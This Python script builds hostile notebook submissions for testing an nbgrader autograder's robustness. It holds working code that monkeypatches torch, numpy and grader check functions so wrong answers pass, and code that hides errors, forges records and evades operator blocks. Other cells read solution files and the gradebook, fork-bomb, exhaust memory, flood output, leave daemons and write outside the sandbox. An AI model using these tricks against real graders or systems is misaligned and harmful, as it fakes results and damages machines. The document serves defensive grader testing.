"""Build the hostile and faulty submissions from the committed student release (see scenarios.py).

Each scenario fills the three answer cells (`kernel_gx`, `relu_impl`, `maxpool2d_impl`), may add plain
code cells (no nbgrader metadata, as a student could) right after the locked `helpers` cell, and may edit
the graded test cells. The code below is the attack: read it as documentation of what the grader must
withstand. Correct and wrong answers come from tests/samples/build_samples.py.

Run from the repository root: `python tests/hostile/build_hostile.py` (a test checks the files are current).
Never run these notebooks outside the grader: some kill, hang or flood the machine that runs them.
"""

from __future__ import annotations

import copy
import importlib.util
import json
import re
import secrets
import sys
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import nbformat

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[1]


def _load(name: str, path: Path):
    """A sibling script as a module (tests/ is not a package)."""
    if name in sys.modules:
        return sys.modules[name]
    spec = importlib.util.spec_from_file_location(name, path)
    module = importlib.util.module_from_spec(spec)
    assert spec.loader is not None
    sys.modules[name] = module  # dataclasses look their module up while the file executes
    spec.loader.exec_module(module)
    return module


SAMPLES = _load("build_samples", ROOT / "tests" / "samples" / "build_samples.py")
SCENARIOS_MODULE = _load("hostile_scenarios", HERE / "scenarios.py")
SCENARIOS = SCENARIOS_MODULE.SCENARIOS
RELEASE = SAMPLES.RELEASE

GX, RELU, MAXPOOL = SAMPLES.GX, SAMPLES.RELU, SAMPLES.MAXPOOL
# The wrong set every cheat submits: exactly the code of three sample submissions.
WRONG_GX = SAMPLES.SCENARIOS["wrong_kernel_sign"]["kernel_gx"]
LEAKY_RELU = SAMPLES.SCENARIOS["leaky_relu"]["relu_impl"]
STRIDE1_MAXPOOL = SAMPLES.SCENARIOS["stride1_when_none"]["maxpool2d_impl"]
WRONG = {"kernel_gx": WRONG_GX, "relu_impl": LEAKY_RELU, "maxpool2d_impl": STRIDE1_MAXPOOL}


def in_body(function: str, lines: str) -> str:
    """`function` (a one-def source) with `lines` (indented 4) run first thing in its body."""
    head, body = function.split("\n", 1)
    return f"{head}\n{lines}{body}"


# ---------------------------------------------------------------------------
# Cheats: code put at the top of the kernel_gx cell, before the wrong Gx.
# ---------------------------------------------------------------------------
TRICKS: dict[str, str] = {
    "patch_torch_equal": '''\
# Cheat: every torch.equal comparison says "equal"
torch.equal = lambda *args, **kwargs: True
torch.Tensor.equal = lambda self, *args, **kwargs: True
''',
    "patch_allclose": '''\
# Cheat: allclose is always True and isclose is True everywhere
def _all_close(a, b, *args, **kwargs):
    return torch.ones_like(torch.broadcast_tensors(torch.as_tensor(a), torch.as_tensor(b))[0], dtype=torch.bool)

torch.allclose = lambda *args, **kwargs: True
torch.Tensor.allclose = lambda *args, **kwargs: True
torch.isclose = _all_close
torch.Tensor.isclose = _all_close
''',
    "patch_assert_close": '''\
# Cheat: torch's assertion helpers never raise
import torch.testing
import torch.testing._comparison

torch.testing.assert_close = lambda *args, **kwargs: None
torch.testing._comparison.assert_close = torch.testing.assert_close
''',
    "patch_numpy": '''\
# Cheat: numpy comparisons always agree and its assertions never raise
import numpy.testing

np.array_equal = lambda *args, **kwargs: True
np.allclose = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None
np.testing.assert_array_equal = lambda *args, **kwargs: None
''',
    "patch_tensor_eq": '''\
# Cheat: == is True everywhere, != False everywhere, and all()/any() are always True
torch.Tensor.__eq__ = lambda self, other: torch.ones(self.shape, dtype=torch.bool)
torch.Tensor.__ne__ = lambda self, other: torch.zeros(self.shape, dtype=torch.bool)
torch.Tensor.all = lambda self, *args, **kwargs: torch.tensor(True)
torch.Tensor.any = lambda self, *args, **kwargs: torch.tensor(True)
''',
    "patch_reference_ops": '''\
# Cheat: bend PyTorch's own operators to the wrong answers below, so the reference agrees with them
import torch.nn.functional as F


def _leaky(z, *args, **kwargs):
    return torch.where(z > 0, z, 0.01 * z)


def _pool_stride1_when_none(x, kernel_size, stride=None, *args, **kwargs):
    kh, kw = (kernel_size, kernel_size) if isinstance(kernel_size, int) else tuple(kernel_size)
    sh, sw = (1, 1) if stride is None else (stride, stride) if isinstance(stride, int) else tuple(stride)
    return x.unfold(-2, kh, sh).unfold(-2, kw, sw).amax(dim=(-2, -1))


_pool_init = nn.MaxPool2d.__init__


def _pool_init_keeping_none(self, kernel_size, stride=None, *args, **kwargs):
    _pool_init(self, kernel_size, stride, *args, **kwargs)
    self.stride = stride  # nn.MaxPool2d would replace None by kernel_size


_conv2d = F.conv2d


def _conv2d_abs(*args, **kwargs):
    return _conv2d(*args, **kwargs).abs()  # conv with -Gx is -(conv with Gx): equal after abs()


torch.relu = F.relu = _leaky
torch.Tensor.relu = _leaky
nn.ReLU.forward = lambda self, z: _leaky(z)
torch.max_pool2d = F.max_pool2d = _pool_stride1_when_none
nn.MaxPool2d.__init__ = _pool_init_keeping_none
nn.MaxPool2d.forward = lambda self, x: _pool_stride1_when_none(x, self.kernel_size, self.stride)
torch.conv2d = F.conv2d = _conv2d_abs
''',
    "patch_grader_helpers": '''\
# Cheat: make every checking function of the grader's package pass
import importlib
import pkgutil

try:
    import autograder
    import autograder.engine.checks
    import autograder.hidden
    from autograder.engine.checks.core import Verdict

    _modules = [autograder, autograder.hidden, autograder.engine.checks]
    _modules += [importlib.import_module(info.name)
                 for info in pkgutil.walk_packages(autograder.engine.checks.__path__, "autograder.engine.checks.")]
    for _module in _modules:
        for _name in ("check", "evaluate", "compare", "run_cases"):
            if hasattr(_module, _name):
                _passing = (lambda *a, **k: None) if _name == "check" else (lambda *a, **k: Verdict.ok())
                setattr(_module, _name, _passing)
except Exception:
    pass  # whatever happens, still define Gx below
''',
    "patch_import": '''\
# Cheat: every import of the grader's code (`autograder...`, the kernel's `autograder_stub...`) gets a
# fake module whose check and run do nothing
import builtins
import types

_fake_autograder = types.ModuleType("autograder")
_fake_autograder.check = lambda *args, **kwargs: None
_fake_autograder.run = lambda *args, **kwargs: None
_fake_autograder.hidden = _fake_autograder
_fake_autograder.runner = _fake_autograder


def _import(name, globals=None, locals=None, fromlist=(), level=0,
            _real_import=builtins.__import__, _fake=_fake_autograder):
    if name.startswith("autograder"):
        return _fake
    return _real_import(name, globals, locals, fromlist, level)


builtins.__import__ = _import
''',
    "custom_exc": '''\
# Cheat: every exception in a later cell is swallowed without a trace
def _swallow(shell, etype, value, tb, tb_offset=None):
    return None


get_ipython().set_custom_exc((BaseException,), _swallow)
''',
    "showtraceback": '''\
# Cheat: errors are never shown
import sys
from IPython.core.interactiveshell import InteractiveShell

_quiet = lambda *args, **kwargs: None
get_ipython().showtraceback = _quiet
get_ipython()._showtraceback = _quiet
InteractiveShell.showtraceback = _quiet
sys.excepthook = _quiet
''',
    "execute_result_credit": '''\
# Cheat: every hidden test cell ends with check(...); make it return 1, which nbgrader would read
# as partial credit (an execute_result), after letting the real check run and swallowing its verdict;
# the kernel's stub (autograder_stub.runner.run) gets the same treatment
import importlib


def _credit_from(real):
    def credit(*args, **kwargs):
        try:
            real(*args, **kwargs)
        except BaseException:
            pass
        return 1

    return credit


for _name, _function in (("autograder.hidden", "check"), ("autograder_stub.runner", "run")):
    try:
        _module = importlib.import_module(_name)
        setattr(_module, _function, _credit_from(getattr(_module, _function)))
    except Exception:
        pass  # whatever happens, still define Gx below
''',
    "post_run_hook": '''\
# Cheat: after every cell, forget its error, wipe its output and claim success
from IPython.display import clear_output


def _forget_error(result):
    result.error_before_exec = None
    result.error_in_exec = None
    clear_output(wait=True)
    print("✔ todo bien")


get_ipython().events.register("pre_run_cell", lambda info: clear_output(wait=True))
get_ipython().events.register("post_run_cell", _forget_error)
''',
}


def helpers_as_noops(template: nbformat.NotebookNode) -> str:
    """A cell redefining the visible tests' checking helpers (from the locked helpers cell) as no-ops."""
    helpers = next(c for c in template.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "helpers")
    names = re.findall(r"^def (comprobar\w*|_fallo)\(", helpers.source, re.M)
    lines = ["# Cheat: the visible tests' helpers accept anything"]
    lines += [f"def {name}(*args, **kwargs):\n    pass\n" for name in names]
    return "\n".join(lines)


def is_test_cell(cell: nbformat.NotebookNode) -> bool:
    meta = cell.metadata.get("nbgrader", {})
    return bool(meta.get("grade")) and not meta.get("solution")


def delete_test_cells(notebook: nbformat.NotebookNode) -> None:
    notebook.cells = [cell for cell in notebook.cells if not is_test_cell(cell)]


def rewrite_test_cells(notebook: nbformat.NotebookNode) -> None:
    for cell in notebook.cells:
        if is_test_cell(cell):
            cell.source = "pass"
            cell.metadata["nbgrader"]["points"] = 100


# ---------------------------------------------------------------------------
# Faults: one broken part, correct answers elsewhere.
# ---------------------------------------------------------------------------
# ---------------------------------------------------------------------------
# Attacks on the grader's own machinery, written by someone who has read its source.
# ---------------------------------------------------------------------------
FORGE_RECORDS = '''\
# Forgery: the kernel's stub is made to record the references' outcomes instead of the student's
# (wrong) functions: torch.relu and nn.MaxPool2d are called in their place for every input it receives.
import torch
import autograder_stub.runner as _runner

_real_answer = _runner.answer


def _forged_answer(request, namespace):
    references = {
        "relu": torch.relu,
        "maxpool2d": lambda x, kernel_size, stride=None: torch.nn.MaxPool2d(kernel_size, stride)(x),
    }
    return _real_answer(request, {**namespace, **references})


_runner.answer = _forged_answer
_runner.__dict__["answer"] = _forged_answer
'''

THREAD_RELU = '''\
import threading

import torch
import torch.nn.functional as F


def _in_thread(work):
    """Run work in another thread (a Python dispatch mode only watches its own)."""
    box = []
    thread = threading.Thread(target=lambda: box.append(work()))
    thread.start()
    thread.join()
    return box[0]


def relu(z):
    return _in_thread(lambda: torch.relu(z))
'''
THREAD_MAXPOOL = '''\
def maxpool2d(x, kernel_size, stride=None):
    return _in_thread(lambda: F.max_pool2d(x, kernel_size, stride))
'''

DISPATCH_OFF_RELU = '''\
import torch
from torch.utils._python_dispatch import _disable_current_modes


def relu(z):
    with torch._C._DisableTorchDispatch():  # no Python dispatch mode sees what runs in here
        return torch.relu(z)
'''
DISPATCH_OFF_MAXPOOL = '''\
import torch.nn.functional as F


def maxpool2d(x, kernel_size, stride=None):
    with _disable_current_modes(), torch._C._ExcludeDispatchKeyGuard(torch._C.DispatchKeySet(torch._C.DispatchKey.Python)):
        return F.max_pool2d(x, kernel_size, stride)
'''

DISGUISED_RELU = '''\
import torch
import torch.nn.functional as F


def relu(z):
    # threshold(z, 0, 0) is ReLU under another name; _add_relu and mkldnn's fused linear are others
    try:
        return F.threshold(z, 0.0, 0.0)
    except Exception:
        return torch.ops.aten._add_relu(z, torch.zeros_like(z))
'''
DISGUISED_MAXPOOL = '''\
import torch


def maxpool2d(x, kernel_size, stride=None):
    # 3-D max pooling on an mkldnn tensor with a depth-1 window is 2-D max pooling
    k = (kernel_size, kernel_size) if isinstance(kernel_size, int) else tuple(kernel_size)
    s = k if stride is None else ((stride, stride) if isinstance(stride, int) else tuple(stride))
    flat = x.reshape(-1, 1, 1, *x.shape[-2:]).float().contiguous()
    pooled = torch.max_pool3d(flat.to_mkldnn(), (1, *k), (1, *s)).to_dense()
    return pooled.reshape(*x.shape[:-2], *pooled.shape[-2:]).to(x.dtype)
'''

SUBPROCESS_RELU = '''\
import subprocess
import sys

import torch

_CHILD = "import sys, torch; z = torch.load(sys.stdin.buffer); torch.save(torch.relu(z), sys.stdout.buffer)"


def relu(z):
    # Hand the work to a fresh interpreter, where nothing is blocked
    import io
    buffer = io.BytesIO()
    torch.save(z.detach(), buffer)
    done = subprocess.run([sys.executable, "-c", _CHILD], input=buffer.getvalue(), capture_output=True, check=True)
    return torch.load(io.BytesIO(done.stdout))
'''

UNDO_BLOCK = '''\
# Undo the kernel's block on the taught operators: destroy every torch.library registration found
# through the garbage collector, empty the list it came from, and patch memory through ctypes
import gc
import os

for _step in (
    lambda: [obj._destroy() for obj in gc.get_objects() if type(obj).__name__ == "Library"],
    lambda: os.environ.pop("AUTOGRADER_BLOCKED_OPS", None),
    lambda: __import__("ctypes").memset(id(os), 0, 8),
    lambda: open("/proc/self/mem", "r+b"),
):
    try:
        _step()
    except Exception:
        pass
'''

READ_GRADER = '''\
# Look for the grader's own code (the test families, the references, the seeds) and print it
import os
import sys

for _name in ("autograder", "autograder.engine.checks", "autograder.lessons.activation_maxpool.relu", "autograder.hidden"):
    try:
        _module = __import__(_name, fromlist=["x"])
        print("LEAKED", _name, open(_module.__file__).read()[:80])
    except Exception as _error:
        print("no module", _name, type(_error).__name__)
print(*(["LEAKED", "modules"] if [m for m in sys.modules if m.startswith("autograder.")] else ["no grader modules"]))
for _root in ["/", *sys.path]:
    for _folder, _dirs, _files in os.walk(_root):
        _dirs[:] = [d for d in _dirs if d not in ("proc", "sys", "dev")]
        if "relu.py" in _files and os.path.basename(_folder) == "checks":
            print("LEAKED", _folder, open(os.path.join(_folder, "relu.py")).read()[:80])
print("In:", len(In))
_marker = "runner" + ".run("  # spelled apart, so this cell's own source does not match
for _source in In:
    if _marker in _source:
        print("LEAKED", "request", _source[:80])
'''

BIG_MESSAGE = '''\
from IPython.display import display

# One 400 MB display message
display({"text/plain": "m" * 400_000_000}, raw=True)
'''

PRINT_FLOOD_RELU = '''\
import torch


def relu(z):
    for _ in range(200):  # leftover debug output: 200 lines of 1 MB on every call
        print("d" * 10**6)
    return torch.where(z > 0, z, torch.zeros_like(z))
'''

OUTPUT_FLOOD = '''\
import sys

# 300 MB on stdout and 50 MB on stderr while the cell runs
for _ in range(300):
    print("x" * 10**6)
for _ in range(50):
    print("y" * 10**6, file=sys.stderr)

''' + in_body(RELU, '    print("x" * 10**5)  # 100 KB more on every call\n')


def leftover_process(marks: "Marks") -> str:
    return f'''\
import ctypes
import os
import subprocess
import time

# A child process the grader must not leave running
subprocess.Popen({json.dumps(list(marks.leftover_command))})

# A double-forked daemon in a session of its own: not a child of the kernel any more
pid = os.fork()
if pid == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            ctypes.CDLL(None).prctl(15, b"{marks.leftover_comm}")  # PR_SET_NAME, to be recognisable
            time.sleep(600)
    finally:
        os._exit(0)  # neither child ever returns to the kernel's code
os.waitpid(pid, 0)
'''


READ_SOLUTIONS = '''\
import os
import time

# Look for the instructor's notebook (with the hidden tests) and the gradebook, and print them
SECRETS = ("solutions/activation_maxpool/activation_maxpool.ipynb", "gradebook.db")
found = [os.path.join(up, secret) for up in (".", "..", "../..", "../../..", "../../../..") for secret in SECRETS]

# Then walk the file system, the likeliest places first, skipping bulky trees;
# at most 200,000 entries under each top directory and 20 seconds in all
SKIP = {"/proc", "/sys", ".git", ".venv", "site-packages", "node_modules", "__pycache__", ".cache"}
start = time.monotonic()
for top in ("/work", "/home", os.path.expanduser("~"), "/tmp", "/"):
    seen = 0
    for root, dirs, files in os.walk(top):
        dirs[:] = [d for d in dirs if d not in SKIP and os.path.join(root, d) not in SKIP]
        seen += len(dirs) + len(files)
        found += [os.path.join(root, f) for f in files if os.path.join(root, f).endswith(SECRETS)]
        if seen > 200_000 or time.monotonic() - start > 20:
            break

for path in dict.fromkeys(map(os.path.abspath, found)):
    try:
        with open(path, "rb") as secret:
            print("LEAKED", path, repr(secret.read(80).decode("utf-8", "replace")))
    except OSError:
        pass
'''


# The attack code spells out the markers scenarios.py tells the end-to-end test to look for.
assert f'print("{SCENARIOS_MODULE.LEAK_MARKER}"' in READ_SOLUTIONS
assert all(f'"{secret}"' in READ_SOLUTIONS for secret in SCENARIOS_MODULE.SECRET_FILES)


def write_outside() -> str:
    dirs = ", ".join(f'"{d}"' for d in SCENARIOS_MODULE.CANARY_DIRS)
    return f'''\
import os

# Leave a file outside the grading directory wherever possible
for directory in ({dirs}):
    path = os.path.join(os.path.expanduser(directory), "{SCENARIOS_MODULE.CANARY_NAME}")
    try:
        with open(path, "w") as canary:
            canary.write("{SCENARIOS_MODULE.ESCAPE_TEXT}")
        print("wrote", os.path.abspath(path))
    except OSError:
        pass
'''


def network(marks: "Marks") -> str:
    return f'''\
import socket

# Reach a server on the grading machine
try:
    with socket.create_connection(("127.0.0.1", {marks.port}), timeout=3) as connection:
        connection.sendall(b"{SCENARIOS_MODULE.ESCAPE_TEXT}")
    print("connected")
except OSError:
    pass
'''


@dataclass(frozen=True)
class Marks:
    """What the test recognises a scenario's traces by: the port it connects to, the processes it leaves.

    The committed files use the defaults (scenarios.py). A test run renders its own copy with marks of
    its own (`unique`), so another run on the same machine never sees, or holds, the same ones.
    """

    port: int = SCENARIOS_MODULE.LISTENER_PORT
    leftover_command: tuple[str, ...] = SCENARIOS_MODULE.LEFTOVER_COMMAND
    leftover_comm: str = SCENARIOS_MODULE.LEFTOVER_COMM

    @classmethod
    def unique(cls, port: int) -> "Marks":
        """Marks no other run uses: the given port (one this run listens on), sleeps and a daemon name of its own."""
        token = secrets.token_hex(3)
        return cls(port, ("sleep", f"600.{secrets.randbelow(10**9):09d}"), f"hostile-{token}")


@dataclass(frozen=True)
class Build:
    """How a scenario's notebook differs from the release: answers, plain cells after helpers, an edit."""

    answers: dict[str, str]
    cells: tuple[str, ...] = ()
    edit: Callable[[nbformat.NotebookNode], None] | None = None


def cheat(trick: str = "", cells: tuple[str, ...] = (), edit=None) -> Build:
    kernel = f"{trick}\n{WRONG_GX}" if trick else WRONG_GX
    return Build({**WRONG, "kernel_gx": kernel}, cells, edit)


def builds(template: nbformat.NotebookNode, marks: Marks = Marks()) -> dict[str, Build]:
    """Every scenario's build, keyed like scenarios.SCENARIOS."""
    table = {name: cheat(trick) for name, trick in TRICKS.items()}
    table["patch_grader_helpers"] = cheat(TRICKS["patch_grader_helpers"], cells=(helpers_as_noops(template),))
    table["test_cells_deleted"] = cheat(edit=delete_test_cells)
    table["test_cells_rewritten"] = cheat(edit=rewrite_test_cells)
    table.update(
        {
            "inplace_view_relu": Build(
                {
                    "relu_impl": "def relu(z):\n    # Zero the negatives in place, hand back a flattened view of the input\n"
                    "    z.mul_((z > 0).to(z.dtype))\n    return z.reshape(-1)\n"
                }
            ),
            "os_exit_in_cell": Build({"relu_impl": "import os\n\n# Kill the kernel right here\nos._exit(1)\n\n" + RELU}),
            "os_exit_when_called": Build(
                {"relu_impl": "import os\n\n" + in_body(RELU, "    os._exit(1)  # kills the kernel on every call\n")}
            ),
            "segfault_when_called": Build(
                {
                    "relu_impl": "import os\nimport signal\n\n"
                    + in_body(RELU, "    os.kill(os.getpid(), signal.SIGSEGV)  # a segmentation fault on every call\n")
                }
            ),
            "infinite_loop_in_cell": Build({"relu_impl": "# Never finishes\nwhile True:\n    pass\n\n" + RELU}),
            "infinite_loop_when_called": Build(
                {"maxpool2d_impl": in_body(MAXPOOL, "    while True:  # never returns\n        pass\n")}
            ),
            "sigint_ignored_loop": Build(
                {
                    "relu_impl": "import signal\n\n# Ignore the interrupt a timeout sends, then never finish\n"
                    "signal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass\n\n" + RELU
                }
            ),
            "memory_hog": Build(
                {"kernel_gx": "# Allocate and fill 6 GiB\nhog = torch.ones(6 * 2**30, dtype=torch.uint8)\n\n" + GX}
            ),
            "memory_hog_when_called": Build(
                {"relu_impl": in_body(RELU, "    hog = torch.ones(6 * 2**30, dtype=torch.uint8)  # 6 GiB on every call\n")}
            ),
            "fork_bomb": Build(
                {"maxpool2d_impl": "import os\n\n# Fork until the process table is full\nwhile True:\n    os.fork()\n\n" + MAXPOOL}
            ),
            "output_flood": Build({"relu_impl": OUTPUT_FLOOD}),
            "forge_records": cheat(FORGE_RECORDS),
            "thread_evasion": Build({"relu_impl": THREAD_RELU, "maxpool2d_impl": THREAD_MAXPOOL}),
            "dispatch_disabled": Build({"relu_impl": DISPATCH_OFF_RELU, "maxpool2d_impl": DISPATCH_OFF_MAXPOOL}),
            "disguised_ops": Build({"relu_impl": DISGUISED_RELU, "maxpool2d_impl": DISGUISED_MAXPOOL}),
            "subprocess_handoff": Build({"relu_impl": SUBPROCESS_RELU}),
            "undo_block": Build(
                {"relu_impl": "import torch\n\n\ndef relu(z):\n    return torch.relu(z)\n"}, cells=(UNDO_BLOCK,)
            ),
            "read_grader": Build({}, cells=(READ_GRADER,)),
            "big_message": Build({}, cells=(BIG_MESSAGE,)),
            "print_flood_when_called": Build({"relu_impl": PRINT_FLOOD_RELU}),
            "leftover_process": Build({}, cells=(leftover_process(marks),)),
            "read_solutions": Build({}, cells=(READ_SOLUTIONS,)),
            "write_outside": Build({}, cells=(write_outside(),)),
            "network": Build({}, cells=(network(marks),)),
        }
    )
    assert set(table) == set(SCENARIOS), set(table) ^ set(SCENARIOS)
    return table


def build(name: str, template: nbformat.NotebookNode, marks: Marks = Marks()) -> nbformat.NotebookNode:
    """The release with the scenario's answers (correct where it gives none), extra cells and edit."""
    spec = builds(template, marks)[name]
    notebook = copy.deepcopy(template)
    for cell in notebook.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        if grade_id in SAMPLES.CORRECT:
            cell.source = spec.answers.get(grade_id, SAMPLES.CORRECT[grade_id]).rstrip("\n")
    if spec.cells:
        at = next(i for i, c in enumerate(notebook.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "helpers")
        extra = [nbformat.v4.new_code_cell(source.rstrip("\n")) for source in spec.cells]
        for number, cell in enumerate(extra, 1):
            cell.id = f"hostile-{name.replace('_', '-')}-{number}"  # fixed ids keep the files reproducible
        notebook.cells[at + 1 : at + 1] = extra
    if spec.edit is not None:
        spec.edit(notebook)
    return notebook


def render(name: str, template: nbformat.NotebookNode | None = None, marks: Marks = Marks()) -> str:
    """The text of tests/hostile/<name>.ipynb (with other marks: that scenario as another test run has it)."""
    if template is None:
        template = nbformat.read(RELEASE, as_version=4)
    return nbformat.writes(build(name, template, marks)) + "\n"


def render_all(template: nbformat.NotebookNode | None = None) -> dict[str, str]:
    """Every scenario's file name and text."""
    if template is None:
        template = nbformat.read(RELEASE, as_version=4)
    return {f"{name}.ipynb": render(name, template) for name in SCENARIOS}


def main() -> int:
    files = render_all()
    for name, text in files.items():
        nbformat.validate(nbformat.reads(text, as_version=4))
        (HERE / name).write_text(text, encoding="utf-8")
    print(f"wrote {len(files)} hostile submissions to {HERE.relative_to(ROOT)}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
